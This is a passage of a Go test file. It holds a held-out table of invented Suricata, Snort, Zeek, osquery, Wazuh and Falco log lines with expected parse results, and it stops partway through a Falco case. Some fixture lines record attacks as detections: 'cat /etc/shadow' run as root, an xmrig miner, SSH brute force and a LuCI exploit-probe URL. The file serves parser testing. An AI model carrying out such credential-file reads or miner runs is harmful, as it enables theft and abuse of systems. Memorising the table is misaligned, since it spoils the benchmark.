package parse

import "testing"

// The sixty-sixth fresh table, written on 2026-12-01: log families that are in none of
// world_test.go (the tuning table), holdout_test.go and the earlier fresh tables, compared by
// product and by file or mode and not only by name, so that its score is again an honest figure
// for logs trawl has never been tuned on. Its theme is security tools and their logs as analysts
// handle them, a further pass after the earlier tables that took Suricata's fast.log, EVE JSON,
// suricata.log 7, stats.log and suricata-update, Snort's alert_fast, alert_full, -y and
// alert_json, Zeek's conn, dns and notice TSV and its JSON writer, Arkime's capture log, osquery's
// results and JSON status logs, Wazuh's ossec.log, API log and syslog output, OSSEC's alerts.log and
// active-responses.log, Sysmon for Linux through syslog, Falco's text output, Tracee's and
// Tetragon's JSON, nessusd.messages, gvmd, openvas and ospd-openvas, Cowrie's text log and other
// honeypots' text logs, ModSecurity 2's serial audit and debug logs, NAXSI, OpenVPN's --log file,
// its status-version 2 file and Access Server, WireGuard's kernel, Windows and userspace logs,
// charon's filelog, Keycloak's Quarkus text log, Authelia's text log, FreeIPA's install and API
// logs, 389 DS's files, the MIT KDC, splunkd.log, Winlogbeat 6 and NXLog in several modes: the
// other files, modes and versions of the same world that no earlier table holds. It has six
// parts. The first is IDS and NSM (Suricata 6's suricata.log, the legacy http.log and tls.log,
// EVE through syslog, Snort 2's alert_syslog, Snort 3's alert_csv, u2spewfoo's dump of a unified2
// file, Zeek's reporter.log and http.log in TSV and the JSON writer with ISO 8601 times). The
// second is endpoint and host agents (osquery's glog INFO file, Wazuh's alerts.json, cluster.log,
// archives.log and its 4.x active-responses.log, Falco's JSON output and its start-up stderr,
// Falcosidekick, Tracee's table output, tetra's compact output, sysmonLogView). The third is
// scanners (nmap -oN and -oG, gsad's log, Nikto's console). The fourth is honeypots and WAFs
// (Cowrie's JSON, Heralding's auth.csv, ModSecurity 3's JSON audit log, ModSecurity 2's concurrent
// index, ModSecurity in nginx's error.log, Coraza in Caddy). The fifth is VPN and identity
// (OpenVPN's status-version 1 file and its journal, wg-quick and charon through syslog, swanctl's
// output, Keycloak's JSON log and its WildFly-era server.log, Authelia's JSON, Dogtag's CA debug
// log on a FreeIPA server). The sixth is SIEM forwarders' own files (Splunk's audit.log,
// splunkd_access.log and metrics.log, Winlogbeat 8's ECS events in a file, the Graylog Sidecar's
// log). Where a product is already in an earlier table, the family here is another file, output,
// mode or version of it, and source says so.
//
// It follows the same harness (table_test.go) and the same rules as the other tables (see the
// comment at the top of world_test.go): times in UTC with the table's clock (worldNow, Location
// UTC), "" when a record has no time of its own (a scan's host block, a CLI's progress line, a
// counter), the written clock read as UTC when the format writes no zone, a year-less date in the
// table's year and a bare time of day on the clock's day, "a|b" for a line that carries two times
// of its own (a syslog header around a JSON event's stamp, an archived event with the original
// line's time), levels only where the product puts them (a level word or bracket, GLib's MESSAGE as
// Notice, glog's I W E F letters, JUL's SEVERE and FINE, Zeek's Reporter::WARNING; a rule's level,
// an alert's priority, a CRS severity or a Windows event's keywords are no log level), "" host when
// the record names none (a scanned target, an HTTP Host header, a virtual host, a peer, a cluster
// worker, a sensor's client is no host; the writer's own name in a syslog header, a JSON hostname,
// hostName, sensor or host.name field, and the agent a Wazuh alert is about, as the earlier
// alerts.log case has it, are), and a multi-line record (a Java stack trace, a dump block, a scan
// report block) as one entry.
//
// The lines were written for this table in the layout each product really uses, from the public
// material each source names (found by search: issue threads pasting real output, documentation),
// and from memory where a source says so; hosts, ids and messages are invented, and every time is
// in late November 2026. The expectations were decided from the format before the table was first
// run; a family trawl still gets wrong carries a gap that says what it does not read, and it stays
// in the score. The table is a measurement, never to be tuned on: no parser rule is to be written
// from it, or it stops being one.
//
// Its first figure, scored once at commit fccb7ce before any rule was written from it: level 99.4 %,
// time 90.9 %, host 92.7 %, records 96.4 % (macro), 36 of 45 families fully right.
//
// go test ./parse -run Fresh66 -v

var fresh66Cases = []worldCase{

	// IDS and NSM: Suricata's, Snort's and Zeek's files and modes no earlier table holds.
	{
		name:   "suricata6-suricata-log",
		source: "Suricata 6's suricata.log and console (the default log format `dd/MM/yyyy -- HH:mm:ss - <Level> - msg`, errors with `[ERRCODE: SC_ERR_…(n)] - ` before the message): docs.suricata.io 6.0 'Engine Logging'; from memory of real lines. Suricata 7's `[pid - thread] yyyy-MM-dd` form is an earlier table's, and suricata-update's console uses the same style, not this file",
		why:    "a day-first date with ` -- ` between date and time; the level in angle brackets",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Notice, "", "29/11/2026 -- 07:41:16 - <Notice> - This is Suricata version 6.0.20 RELEASE running in SYSTEM mode"),
			we("2026-11-29T07:41:16Z", Info, "", "29/11/2026 -- 07:41:16 - <Info> - CPUs/cores online: 8"),
			we("2026-11-29T07:41:19Z", Warn, "", "29/11/2026 -- 07:41:19 - <Warning> - [ERRCODE: SC_ERR_NO_RULES(42)] - No rule files match the pattern /var/lib/suricata/rules/local.rules"),
			we("2026-11-29T07:41:22Z", Info, "", "29/11/2026 -- 07:41:22 - <Info> - 1 rule files processed. 38812 rules successfully loaded, 0 rules failed"),
			we("2026-11-29T07:41:23Z", Error, "", "29/11/2026 -- 07:41:23 - <Error> - [ERRCODE: SC_ERR_AFP_CREATE(190)] - Unable to find iface eth9: No such device"),
		},
	},
	{
		name:   "suricata-http-log",
		source: "Suricata's legacy http.log output (http-log: `MM/dd/yyyy-HH:mm:ss.uuuuuu hostname [**] uri [**] user-agent [**] src:port -> dst:port`, the extended form adding referer, method, protocol, status and length): docs.suricata.io 6.0 'Output' (http-log, removed in 7); from memory of real lines. fast.log and EVE are earlier tables'",
		why:    "fast.log's slashed stamp with the year, then the HTTP host name, which is the site asked for, not the sensor",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412345Z", Unknown, "", "11/29/2026-07:41:16.412345 www.example.org [**] /login.php [**] Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0 [**] 10.0.0.5:51234 -> 93.184.216.34:80"),
			we("2026-11-29T07:41:17.004512Z", Unknown, "", "11/29/2026-07:41:17.004512 update.example.net [**] /v2/check?id=4411 [**] curl/8.5.0 [**] <no referer> [**] GET [**] HTTP/1.1 [**] 200 [**] 812 bytes [**] 10.0.0.7:41122 -> 198.51.100.20:80"),
			we("2026-11-29T07:41:19.991200Z", Unknown, "", "11/29/2026-07:41:19.991200 <hostname unknown> [**] /cgi-bin/luci/;stok=/locale [**] Mozilla/5.0 [**] 203.0.113.45:51800 -> 10.0.0.10:80"),
		},
	},
	{
		name:   "suricata-tls-log",
		source: "Suricata's legacy tls.log output (tls-log: `MM/dd/yyyy-HH:mm:ss.uuuuuu src:port -> dst:port  TLS: Subject='…' Issuerdn='…' SHA1='…' SNI='…' VERSION='…' NOTBEFORE='…' NOTAFTER='…'`): docs.suricata.io 6.0 'Output' (tls-log); from memory of real lines",
		why:    "the record's stamp first; the certificate's NOTBEFORE and NOTAFTER dates inside are no record times",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412345Z", Unknown, "", "11/29/2026-07:41:16.412345 10.0.0.5:51236 -> 198.51.100.20:443  TLS: Subject='CN=api.example.net' Issuerdn='C=US, O=Let's Encrypt, CN=R11' SHA1='3A:1F:0C:9B:22:7E:41:D8:05:6C:AB:90:12:EF:77:3D:C4:58:BE:01' SNI='api.example.net' VERSION='TLS 1.2' NOTBEFORE='2026-10-30T00:00:00' NOTAFTER='2027-01-28T23:59:59'"),
			we("2026-11-29T07:41:18.220011Z", Unknown, "", "11/29/2026-07:41:18.220011 10.0.0.9:40012 -> 203.0.113.80:8443  TLS: Subject='CN=localhost' Issuerdn='CN=localhost' SHA1='9E:44:01:AB:7C:3D:21:F0:88:5A:C2:11:6B:0D:E9:34:70:2F:DD:18' SNI='' VERSION='TLS 1.2' NOTBEFORE='2024-01-01T00:00:00' NOTAFTER='2034-01-01T00:00:00'"),
			we("2026-11-29T07:41:21.008800Z", Unknown, "", "11/29/2026-07:41:21.008800 10.0.0.5:51240 -> 198.51.100.44:443  TLS: SNI='cdn.example.com' VERSION='TLS 1.3'"),
		},
	},
	{
		name:   "suricata-eve-syslog",
		source: "Suricata's EVE output with `filetype: syslog` (each event handed to syslog(3) under the identity suricata, as rsyslog's traditional format writes it: `Mmm dd HH:mm:ss host suricata[pid]: {EVE JSON}`): suricata.yaml eve-log filetype and docs.suricata.io 'Eve JSON Output' (Output types); from memory of real lines. EVE in a file is an earlier table's",
		why:    "a syslog header around an EVE object with its own microsecond stamp: two times; the alert's severity is no level; the header's host is the sensor",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z|2026-11-29T07:41:16.412345Z", Unknown, "ids02", `Nov 29 07:41:16 ids02 suricata[2211]: {"timestamp":"2026-11-29T07:41:16.412345+0000","flow_id":1144512033218841,"in_iface":"eth1","event_type":"alert","src_ip":"10.0.0.5","src_port":51234,"dest_ip":"198.51.100.20","dest_port":80,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2013028,"rev":7,"signature":"ET POLICY curl User-Agent Outbound","category":"Attempted Information Leak","severity":2},"app_proto":"http"}`),
			we("2026-11-29T07:41:17Z|2026-11-29T07:41:17.004512Z", Unknown, "ids02", `Nov 29 07:41:17 ids02 suricata[2211]: {"timestamp":"2026-11-29T07:41:17.004512+0000","flow_id":2271183920044512,"in_iface":"eth1","event_type":"dns","src_ip":"10.0.0.7","src_port":53211,"dest_ip":"10.0.0.2","dest_port":53,"proto":"UDP","dns":{"type":"query","id":4411,"rrname":"update.example.net","rrtype":"A","tx_id":0}}`),
			we("2026-11-29T07:41:20Z|2026-11-29T07:41:20.771002Z", Unknown, "ids02", `Nov 29 07:41:20 ids02 suricata[2211]: {"timestamp":"2026-11-29T07:41:20.771002+0000","flow_id":1144512033218841,"in_iface":"eth1","event_type":"flow","src_ip":"10.0.0.5","src_port":51234,"dest_ip":"198.51.100.20","dest_port":80,"proto":"TCP","app_proto":"http","flow":{"pkts_toserver":6,"pkts_toclient":5,"bytes_toserver":512,"bytes_toclient":1840,"start":"2026-11-29T07:41:16.401100+0000","end":"2026-11-29T07:41:16.512200+0000","age":0,"state":"closed","reason":"timeout","alerted":true}}`),
		},
	},
	{
		name:   "snort2-alert-syslog",
		source: "Snort 2.9's alert_syslog output (`output alert_syslog: LOG_AUTH LOG_ALERT`, as rsyslog writes it: `Mmm dd HH:mm:ss host snort[pid]: [gid:sid:rev] msg [Classification: …] [Priority: n] {PROTO} src:port -> dst:port`): Snort 2.9 Users Manual 'Output Modules' (alert_syslog); from memory of real lines. alert_fast, alert_full and -y are earlier tables'",
		why:    "the sensor's name in the syslog header; Snort's priority is no log level; a preprocessor message has no rule",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "ids01", "Nov 29 07:41:16 ids01 snort[2211]: [1:2019401:3] ET POLICY Vulnerable Java Version 1.8.x Detected [Classification: Potential Corporate Privacy Violation] [Priority: 1] {TCP} 10.0.0.5:51234 -> 203.0.113.9:80"),
			we("2026-11-29T07:41:18Z", Unknown, "ids01", "Nov 29 07:41:18 ids01 snort[2211]: [120:3:2] (http_inspect) NO CONTENT-LENGTH OR TRANSFER-ENCODING IN HTTP RESPONSE [Classification: Unknown Traffic] [Priority: 3] {TCP} 198.51.100.20:80 -> 10.0.0.7:41122"),
			we("2026-11-29T07:41:20Z", Unknown, "ids01", "Nov 29 07:41:20 ids01 snort[2211]: [1:1000004:1] LOCAL SSH brute force attempt [Classification: Attempted Administrator Privilege Gain] [Priority: 1] {TCP} 203.0.113.45:51800 -> 10.0.0.10:22"),
			we("2026-11-29T07:41:25Z", Unknown, "ids01", "Nov 29 07:41:25 ids01 snort[2211]: S5: Pruned 12 sessions from cache for memcap. 8812 ssns remain.  memcap: 8388506/8388608"),
		},
	},
	{
		name:   "snort3-alert-csv",
		source: "Snort 3's alert_csv logger with its default fields (`timestamp pkt_num proto pkt_gen pkt_len dir src_ap dst_ap rule action`, comma and blank separated, the time in Snort's year-less `MM/dd-HH:mm:ss.uuuuuu`): Snort 3 User Manual (alert_csv) and snort3/snort3 issue #452's snort.lua; from memory of real lines. Snort 3's alert_json is an earlier table's",
		why:    "a year-less month/day stamp first, then numbers and addresses; the action is no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412345Z", Unknown, "", "11/29-07:41:16.412345, 1204, TCP, raw, 60, C2S, 10.0.0.5:51234, 203.0.113.9:80, 1:1000001:1, allow"),
			we("2026-11-29T07:41:17.004512Z", Unknown, "", "11/29-07:41:17.004512, 1311, UDP, raw, 84, C2S, 10.0.0.7:53211, 10.0.0.2:53, 1:1000007:2, allow"),
			we("2026-11-29T07:41:20.991200Z", Unknown, "", "11/29-07:41:20.991200, 2088, TCP, stream_tcp, 1420, S2C, 198.51.100.20:80, 10.0.0.7:41122, 119:19:1, would_block"),
		},
	},
	{
		name:   "snort-u2spewfoo",
		source: "u2spewfoo's dump of a Snort 2 unified2 file (a `(Event)` block of tab-indented `name: value` pairs with `event second` as epoch seconds and `event microsecond`, a `Packet` block with `packet second` and a hex dump, a blank line after each): the Snort manual's unified2 record description and the tools/u2spewfoo README; from memory of real output",
		why:    "the time is an epoch in a tab-indented field on the block's second line; each block with its blank line is one record",
		gap:    "the epoch in the tab-indented `event second:` field (with `event microsecond:`) is not read as the time, so both blocks come out with none, and the Packet block's `[    0] …` hex dump lines are split off it as records of their own",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412345Z", Unknown, "",
				"(Event)",
				"\tsensor id: 0\tevent id: 4411\tevent second: 1795938076\tevent microsecond: 412345",
				"\tsig id: 2019401\tgen id: 1\trevision: 3\t classification: 30",
				"\tpriority: 1\tip source: 10.0.0.5\tip destination: 203.0.113.9",
				"\tsrc port: 51234\tdest port: 80\tprotocol: 6\timpact_flag: 0\tblocked: 0",
				"\tmpls label: 0\tvland id: 0\tpolicy id: 0",
				""),
			we("2026-11-29T07:41:16.412345Z", Unknown, "",
				"Packet",
				"\tsensor id: 0\tevent id: 4411\tevent second: 1795938076",
				"\tpacket second: 1795938076\tpacket microsecond: 412345",
				"\tlinktype: 1\tpacket_length: 74",
				"[    0] 52 54 00 3A 1C 05 52 54 00 12 34 56 08 00 45 00  RT.:..RT..4V..E.",
				"[   16] 00 3C 8F 21 40 00 40 06 A1 2E 0A 00 00 05 CB 00  .<.!@.@.........",
				""),
		},
	},
	{
		name:   "zeek-reporter-log",
		source: "Zeek's reporter.log in the default ASCII TSV form (the #separator … #types header, `ts level message location`, level Reporter::INFO, Reporter::WARNING or Reporter::ERROR): zeek/zeek issue #1036 pasting reporter.log lines and docs.zeek.org 'reporter.log'. conn.log, dns.log and notice.log TSV and the JSON writer are earlier tables'",
		why:    "an epoch first, then Zeek's own level as an enum in the second column",
		entries: []worldEntry{
			wskip("#separator \\x09",
				"#set_separator\t,",
				"#empty_field\t(empty)",
				"#unset_field\t-",
				"#path\treporter",
				"#open\t2026-11-29-07-41-16",
				"#fields\tts\tlevel\tmessage\tlocation",
				"#types\ttime\tenum\tstring\tstring"),
			we("2026-11-29T07:41:16.412345Z", Info, "", "1795938076.412345\tReporter::INFO\tprocessing suspended\t(empty)"),
			we("2026-11-29T07:41:16.501200Z", Info, "", "1795938076.501200\tReporter::INFO\tprocessing continued\t(empty)"),
			we("2026-11-29T07:41:21.004512Z", Warn, "", "1795938081.004512\tReporter::WARNING\tSumStats key request for the ssh.login.failure SumStat uid took longer than 1 minute and was automatically cancelled.\t/opt/zeek/share/zeek/base/frameworks/sumstats/./cluster.zeek, line 213"),
			we("2026-11-29T07:41:29.991200Z", Error, "", "1795938089.991200\tReporter::ERROR\tfield value missing (HTTP::c$http$uri)\t/opt/zeek/share/zeek/site/local-http.zeek, line 42"),
			wskip("#close\t2026-11-29-08-00-00"),
		},
	},
	{
		name:   "zeek-http-log",
		source: "Zeek's http.log in the default ASCII TSV form (`ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri referrer version user_agent origin request_body_len response_body_len status_code status_msg …`): docs.zeek.org 'http.log'; from memory of real lines",
		why:    "epoch first; the host column is the HTTP Host header, the site asked for, not the sensor",
		entries: []worldEntry{
			wskip("#separator \\x09",
				"#set_separator\t,",
				"#empty_field\t(empty)",
				"#unset_field\t-",
				"#path\thttp",
				"#open\t2026-11-29-07-00-00",
				"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\treferrer\tversion\tuser_agent\torigin\trequest_body_len\tresponse_body_len\tstatus_code\tstatus_msg\tinfo_code\tinfo_msg\ttags\tusername\tpassword\tproxied\torig_fuids\torig_filenames\torig_mime_types\tresp_fuids\tresp_filenames\tresp_mime_types",
				"#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\tstring\tstring\tcount\tcount\tcount\tstring\tcount\tstring\tset[enum]\tstring\tstring\tset[string]\tvector[string]\tvector[string]\tvector[string]\tvector[string]\tvector[string]\tvector[string]"),
			we("2026-11-29T07:41:16.412345Z", Unknown, "", "1795938076.412345\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t51234\t93.184.216.34\t80\t1\tGET\twww.example.org\t/login.php\t-\t1.1\tMozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0\t-\t0\t4120\t200\tOK\t-\t-\t(empty)\t-\t-\t-\t-\t-\t-\tFq3u1t2Y7gRc0Z9a1\t-\ttext/html"),
			we("2026-11-29T07:41:17.004512Z", Unknown, "", "1795938077.004512\tC4J4Th3PJpwUYZZ6gc\t10.0.0.7\t41122\t198.51.100.20\t80\t1\tPOST\tupdate.example.net\t/v2/check\t-\t1.1\tcurl/8.5.0\t-\t88\t812\t403\tForbidden\t-\t-\t(empty)\t-\t-\t-\tFa8kP2m1Qx0Lw3Jd4\t-\tapplication/json\tFz1o9Xc4Vb7Nm2Kl8\t-\ttext/plain"),
			wskip("#close\t2026-11-29-08-00-00"),
		},
	},
	{
		name:   "zeek-json-iso8601",
		source: "Zeek's JSON writer with `redef LogAscii::use_json = T; redef LogAscii::json_timestamps = JSON::TS_ISO8601;` (ts written as an ISO 8601 string with Z instead of epoch seconds; ssl.log and weird.log here, weird.log's peer the cluster node that raised it): docs.zeek.org 'Zeek Logs' (JSON output, json_timestamps) and the ssl.log and weird.log pages; from memory of real lines. The JSON writer with epoch ts is an earlier table's",
		why:    "an ISO ts string in place of the epoch; weird.log's peer is a Zeek node name, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412345Z", Unknown, "", `{"ts":"2026-11-29T07:41:16.412345Z","uid":"CHhAvVGS1DHFjwGM9","id.orig_h":"10.0.0.5","id.orig_p":51236,"id.resp_h":"198.51.100.20","id.resp_p":443,"version":"TLSv13","cipher":"TLS_AES_128_GCM_SHA256","curve":"x25519","server_name":"api.example.net","resumed":false,"established":true,"ssl_history":"CsiI"}`),
			we("2026-11-29T07:41:18.220011Z", Unknown, "", `{"ts":"2026-11-29T07:41:18.220011Z","uid":"CmES5u32sYpV7JYN","id.orig_h":"10.0.0.9","id.orig_p":40012,"id.resp_h":"203.0.113.80","id.resp_p":8443,"name":"bad_TCP_checksum","notice":false,"peer":"worker-1-2","source":"TCP"}`),
			we("2026-11-29T07:41:19.000101Z", Unknown, "", `{"ts":"2026-11-29T07:41:19.000101Z","name":"truncated_header","notice":false,"peer":"worker-1-1","source":"IP"}`),
		},
	},

	// Endpoint and host agents: osquery's, Wazuh's, Falco's, Tracee's, Tetragon's and Sysmon's other files and outputs.
	{
		name:   "osquery-glog-info",
		source: "osqueryd's glog file /var/log/osquery/osqueryd.INFO (three header lines, then `[IWEF]mmdd HH:mm:ss.uuuuuu threadid file:line] msg`): osquery.readthedocs.io 'Logging' (the status log also written by glog to osqueryd.INFO); from memory of real lines. osquery's results log and its JSON status log are earlier tables'",
		why:    "glog's level letter glued to a year-less mmdd date; the header's 'Running on machine' is no record",
		entries: []worldEntry{
			wskip("Log file created at: 2026/11/29 07:41:16",
				"Running on machine: web01",
				"Log line format: [IWEF]mmdd hh:mm:ss.uuuuuu threadid file:line] msg"),
			we("2026-11-29T07:41:16.412345Z", Info, "", "I1129 07:41:16.412345  1201 init.cpp:391] osquery initialized [version=5.12.1]"),
			we("2026-11-29T07:41:16.418800Z", Info, "", "I1129 07:41:16.418800  1201 extensions.cpp:351] Could not autoload extensions: Failed reading: /etc/osquery/extensions.load"),
			we("2026-11-29T07:41:17.004512Z", Warn, "", "W1129 07:41:17.004512  1233 auditdnetlink.cpp:684] Failed to set the netlink owner"),
			we("2026-11-29T07:41:21.991200Z", Error, "", "E1129 07:41:21.991200  1240 watcher.cpp:334] osqueryd worker (4120) stopping: Maximum sustainable memory utilization limit exceeded: 512000000"),
		},
	},
	{
		name:   "wazuh-alerts-json",
		source: "the Wazuh manager's /var/ossec/logs/alerts/alerts.json (one object a line: timestamp with +0000, rule with its level, agent id, name and ip, manager name, id as epoch.offset, full_log, predecoder, decoder, data, location): documentation.wazuh.com 'Alerts' and wazuh/wazuh-ruleset PRs pasting decoded events; from memory of real lines. alerts.log, ossec.log, api.log and the syslog output are earlier tables'",
		why:    "the alert's timestamp with a +0000 offset; the rule's level is no log level; the agent the alert is about is its host, as alerts.log's `host->location` is",
		gap:    "the agent's name under agent.name is not taken for the host: every alert comes out with none",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Unknown, "web01", `{"timestamp":"2026-11-29T07:41:16.412+0000","rule":{"level":5,"description":"sshd: authentication failed.","id":"5760","firedtimes":3,"mail":false,"groups":["syslog","sshd","authentication_failed"]},"agent":{"id":"003","name":"web01","ip":"10.0.0.21"},"manager":{"name":"wazuh-mgr"},"id":"1795938076.412311","full_log":"Nov 29 07:41:15 web01 sshd[4120]: Failed password for root from 203.0.113.45 port 51234 ssh2","predecoder":{"program_name":"sshd","timestamp":"Nov 29 07:41:15","hostname":"web01"},"decoder":{"parent":"sshd","name":"sshd"},"data":{"srcip":"203.0.113.45","srcport":"51234","dstuser":"root"},"location":"/var/log/auth.log"}`),
			we("2026-11-29T07:41:18.004Z", Unknown, "wazuh-mgr", `{"timestamp":"2026-11-29T07:41:18.004+0000","rule":{"level":3,"description":"Wazuh server started.","id":"502","firedtimes":1,"mail":false,"groups":["ossec"]},"agent":{"id":"000","name":"wazuh-mgr"},"manager":{"name":"wazuh-mgr"},"id":"1795938078.413522","full_log":"ossec: Manager started.","decoder":{"name":"ossec"},"location":"wazuh-monitord"}`),
			we("2026-11-29T07:41:21.771Z", Unknown, "dc01", `{"timestamp":"2026-11-29T07:41:21.771+0000","rule":{"level":10,"description":"Multiple Windows logon failures.","id":"60204","frequency":8,"firedtimes":1,"mail":false,"groups":["windows","windows_security","authentication_failures"]},"agent":{"id":"007","name":"dc01","ip":"10.0.0.30"},"manager":{"name":"wazuh-mgr"},"id":"1795938081.415880","decoder":{"name":"windows_eventchannel"},"data":{"win":{"system":{"eventID":"4625","computer":"dc01.corp.example.org","systemTime":"2026-11-29T07:41:21.5512300Z"}}},"location":"EventChannel"}`),
		},
	},
	{
		name:   "wazuh-cluster-log",
		source: "the Wazuh manager's /var/ossec/logs/cluster.log (wazuh-clusterd: `yyyy/MM/dd HH:mm:ss LEVEL: [Node] [Task] msg`, the node `Master`, `Local Server` or `Worker name`): wazuh/wazuh PRs #8002, #25896 and #31631 pasting cluster.log. ossec.log and api.log are earlier tables'",
		why:    "a slashed date, the level word with a colon, then two bracketed tags; a worker's name is a peer, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Info, "", "2026/11/29 07:41:16 INFO: [Local Server] [Main] Serving on /var/ossec/queue/cluster/c-internal.sock"),
			we("2026-11-29T07:41:16Z", Info, "", "2026/11/29 07:41:16 INFO: [Master] [Main] Serving on ('0.0.0.0', 1516)"),
			we("2026-11-29T07:41:17Z", Debug, "", "2026/11/29 07:41:17 DEBUG: [Master] [Keep alive] Calculating."),
			we("2026-11-29T07:41:25Z", Info, "", "2026/11/29 07:41:25 INFO: [Worker wazuh-worker-1] [Integrity check] Finished in 0.004s. Received metadata of 24 files. Sync required."),
			we("2026-11-29T07:41:31Z", Warn, "", "2026/11/29 07:41:31 WARNING: [Worker wazuh-worker-2] [Main] No keep alives have been received from wazuh-worker-2 in the last minute. Disconnecting"),
			we("2026-11-29T07:41:40Z", Error, "", "2026/11/29 07:41:40 ERROR: [Worker wazuh-worker-1] [Integrity sync] Error synchronizing integrity: Error 3020 - Timeout sending request"),
		},
	},
	{
		name:   "wazuh-archives-log",
		source: "the Wazuh manager's /var/ossec/logs/archives/archives.log with `<logall>yes</logall>` (`yyyy Mmm dd HH:mm:ss (agent) ip->location original event`, the manager's own events as `manager->location`): documentation.wazuh.com 'Event logging' (archives); from memory of real lines. alerts.log is an earlier table's",
		why:    "a year-first month-name date, the agent in parentheses, then the original syslog line with its own time: two times; the agent is the host",
		gap:    "the agent in parentheses after the year-first date (or the manager's name before `->location`) is not taken for the host: every line comes out with none",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z|2026-11-29T07:41:15Z", Unknown, "web01", "2026 Nov 29 07:41:16 (web01) any->/var/log/auth.log Nov 29 07:41:15 web01 sshd[4120]: Failed password for root from 203.0.113.45 port 51234 ssh2"),
			we("2026-11-29T07:41:18Z", Unknown, "wazuh-mgr", "2026 Nov 29 07:41:18 wazuh-mgr->wazuh-monitord ossec: Manager started."),
			we("2026-11-29T07:41:20Z|2026-11-29T07:41:19Z", Unknown, "db02", "2026 Nov 29 07:41:20 (db02) 10.0.0.22->/var/log/syslog Nov 29 07:41:19 db02 systemd[1]: Started postgresql@16-main.service - PostgreSQL Cluster 16-main."),
		},
	},
	{
		name:   "wazuh-active-responses-json",
		source: "the Wazuh 4.2+ agent's /var/ossec/logs/active-responses.log (`yyyy/MM/dd HH:mm:ss active-response/bin/script: Starting`, the JSON message from wazuh-execd with the alert inside, `Ended`): documentation.wazuh.com 'Active response' (custom scripts and their log); from memory of real lines. OSSEC's date(1)-stamped active-responses.log is an earlier table's",
		why:    "a slashed date before a script path; the JSON after it names an origin and an agent inside the alert, neither the writer's host field",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", "2026/11/29 07:41:16 active-response/bin/firewall-drop: Starting"),
			we("2026-11-29T07:41:16Z", Unknown, "", `2026/11/29 07:41:16 active-response/bin/firewall-drop: {"version":1,"origin":{"name":"node01","module":"wazuh-execd"},"command":"add","parameters":{"extra_args":[],"alert":{"timestamp":"2026-11-29T07:41:15.998+0000","rule":{"level":10,"description":"sshd: brute force trying to get access to the system.","id":"5763"},"agent":{"id":"003","name":"web01","ip":"10.0.0.21"},"data":{"srcip":"203.0.113.45"}},"program":"active-response/bin/firewall-drop"}}`),
			we("2026-11-29T07:41:16Z", Unknown, "", `2026/11/29 07:41:16 active-response/bin/firewall-drop: {"version":1,"origin":{"name":"firewall-drop","module":"active-response"},"command":"check_keys","parameters":{"keys":["203.0.113.45"]}}`),
			we("2026-11-29T07:41:16Z", Unknown, "", "2026/11/29 07:41:16 active-response/bin/firewall-drop: Ended"),
		},
	},
	{
		name:   "falco-json-output",
		source: "Falco with `json_output: true` (one object a line: hostname, output with its own time and priority, priority, rule, source, tags, time in RFC 3339 with nanoseconds, output_fields): falcosecurity/falco issues #2985 and #3287 pasting JSON alerts and PR #3314. Falco's text output is an earlier table's",
		why:    "the priority key is Falco's level; hostname is the writer's host; the output string repeats the time of day",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412345678Z", Warn, "node-3", `{"hostname":"node-3","output":"07:41:16.412345678: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=systemd ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=34816 container_id=host container_name=host)","priority":"Warning","rule":"Read sensitive file untrusted","source":"syscall","tags":["maturity_stable","host","container","filesystem","mitre_credential_access","T1555"],"time":"2026-11-29T07:41:16.412345678Z","output_fields":{"container.id":"host","evt.type":"openat","fd.name":"/etc/shadow","proc.cmdline":"cat /etc/shadow","user.name":"root"}}`),
			we("2026-11-29T07:41:18.004512001Z", Notice, "node-3", `{"hostname":"node-3","output":"07:41:18.004512001: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 process=sh proc_exepath=/bin/busybox parent=runc command=sh terminal=34817 container_id=4a1f0c9e2b7d container_name=shop-api)","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["maturity_stable","container","shell","mitre_execution","T1059"],"time":"2026-11-29T07:41:18.004512001Z","output_fields":{"container.id":"4a1f0c9e2b7d","container.name":"shop-api","evt.type":"execve","proc.name":"sh"}}`),
			we("2026-11-29T07:41:21.991200000Z", Critical, "node-3", `{"hostname":"node-3","output":"07:41:21.991200000: Critical Executing binary not part of base image (proc_exe=/tmp/xmrig proc_sname=sh gparent=runc evt_type=execve user=root process=xmrig container_id=4a1f0c9e2b7d container_name=shop-api)","priority":"Critical","rule":"Drop and execute new binary in container","source":"syscall","tags":["maturity_stable","container","process","mitre_persistence","TA0003"],"time":"2026-11-29T07:41:21.991200000Z","output_fields":{"container.id":"4a1f0c9e2b7d","proc.exe":"/tmp/xmrig"}}`),
		},
	},
	{
		name:   "falco-startup-stderr",
		source: "Falco 0.3x's own messages on stderr at start (with the default time_format_iso_8601: false, each line `Www Mmm dd HH:mm:ss yyyy: msg`, the configuration and rules files indented under their heading): falcosecurity/falco issue #2487 and the Falco docs 'Running'; from memory of real lines",
		why:    "a ctime date with a colon after the year; indented lines are records of their own; no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", "Sun Nov 29 07:41:16 2026: Falco version: 0.39.2 (x86_64)"),
